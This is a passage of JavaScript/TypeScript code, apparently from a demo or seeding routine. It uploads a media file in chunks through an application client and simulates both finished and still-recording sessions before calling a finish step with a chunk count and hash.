    const errorMessage = typeof demo.finish === "object" ? demo.finish.errorMessage : null;
    await client.finish(hash, { endedAt, totalChunks: 0, errorMessage });
    return hash;
  }
  const chunkSize = demo.chunkSize ?? 256 * 1024;
  if (active) {
    // Still recording: the first part of the media has arrived, the rest has not.
    const size = (await stat(file)).size;
    const some = Math.max(1, Math.floor(size / chunkSize / 2));
    await client.uploadFile(hash, file, { chunkSize, limit: some });
    return hash;
  }
  const uploaded = await client.uploadFile(hash, file, { chunkSize });
  await client.finish(hash, {
    endedAt,
    totalChunks: uploaded.totalChunks,
    mediaSha256: uploaded.sha256,
    errorMessage: typeof demo.finish === "object" ? demo.finish.errorMessage : null,
  });
  return hash;
}
